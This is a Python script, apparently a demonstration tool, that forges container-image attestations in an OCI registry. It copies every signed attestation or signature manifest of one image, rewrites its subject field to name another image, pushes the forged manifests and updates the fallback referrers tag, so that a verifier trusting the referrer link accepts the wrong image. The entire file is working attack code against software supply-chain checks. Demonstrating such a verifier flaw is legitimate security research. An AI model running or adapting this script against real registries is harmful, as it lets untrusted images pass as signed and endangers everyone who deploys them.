#!/usr/bin/env python3
"""Forge, for the demo: make every attestation of one image a referrer of another, as it stands.

    move_attestation.py HOST/REPOSITORY FROM-DIGEST TO-DIGEST

Anyone who may push to a repository can do this: the bundles stay byte for byte what the signer
signed, only the manifests around them name another subject. A verifier that trusts the link
instead of the signed statement says yes. Plain HTTP, standard library only.
"""

from __future__ import annotations

import hashlib
import http.client
import json
import sys
from typing import Any

INDEX = "application/vnd.oci.image.index.v1+json"
MANIFEST = "application/vnd.oci.image.manifest.v1+json"
DOCKER = "application/vnd.docker.distribution.manifest.v2+json"
ANY = ", ".join((MANIFEST, INDEX, DOCKER))
TIMEOUT_SECONDS = 30


class Repository:
    """One repository of a registry on loopback."""

    def __init__(self, reference: str) -> None:
        self.host, _, self.name = reference.partition("/")

    def request(self, method: str, path: str, body: bytes = b"", kind: str = ANY) -> Any:
        """Return ``(status, headers, content)`` of one request below this repository."""
        connection = http.client.HTTPConnection(self.host, timeout=TIMEOUT_SECONDS)
        headers = {"Content-Type": kind} if method == "PUT" else {"Accept": kind}
        try:
            connection.request(method, f"/v2/{self.name}/{path}", body or None, headers)
            response = connection.getresponse()
            return response.status, response.headers, response.read()
        finally:
            connection.close()

    def referrers(self, digest: str) -> list[dict[str, Any]]:
        """Return the descriptors of what refers to ``digest``, by the API or the fallback tag."""
        status, _, content = self.request("GET", f"referrers/{digest}", kind=INDEX)
        if status != http.client.OK:
            status, _, content = self.request(
                "GET", f"manifests/{fallback_tag(digest)}", kind=INDEX
            )
        return list(json.loads(content)["manifests"]) if status == http.client.OK else []

    def put(self, reference: str, content: bytes, kind: str) -> Any:
        """Store a manifest; return the answer's headers."""
        status, headers, said = self.request("PUT", f"manifests/{reference}", content, kind)
        if status != http.client.CREATED:
            raise SystemExit(f"move_attestation: PUT {reference}: {status} {said!r}")
        return headers


def fallback_tag(digest: str) -> str:
    """Return the tag that lists referrers where the registry has no API for them."""
    return digest.replace(":", "-")


def move(repository: Repository, source: str, target: str) -> int:
    """Attach every referrer of ``source`` to ``target``; return how many there were."""
    _, headers, content = repository.request("GET", f"manifests/{target}")
    subject = {"mediaType": headers["Content-Type"], "digest": target, "size": len(content)}
    listed = []
    for descriptor in repository.referrers(source):
        _, _, content = repository.request("GET", f"manifests/{descriptor['digest']}")
        forged = json.dumps({**json.loads(content), "subject": subject}).encode()
        digest = "sha256:" + hashlib.sha256(forged).hexdigest()
        answer = repository.put(digest, forged, MANIFEST)
        if "OCI-Subject" not in answer:
            listed.append({**descriptor, "digest": digest, "size": len(forged)})
        print(f"{descriptor['digest']} of {source[:19]} is now {digest} of {target[:19]}")
    if listed:
        index = {"schemaVersion": 2, "mediaType": INDEX, "manifests": listed}
        repository.put(fallback_tag(target), json.dumps(index).encode(), INDEX)
    return len(repository.referrers(target))


def main() -> int:
    """Run the command line; exit status 1 when nothing was moved."""
    if len(sys.argv) != 4:
        print(__doc__, file=sys.stderr)
        return 2
    return 0 if move(Repository(sys.argv[1]), sys.argv[2], sys.argv[3]) else 1


if __name__ == "__main__":
    sys.exit(main())
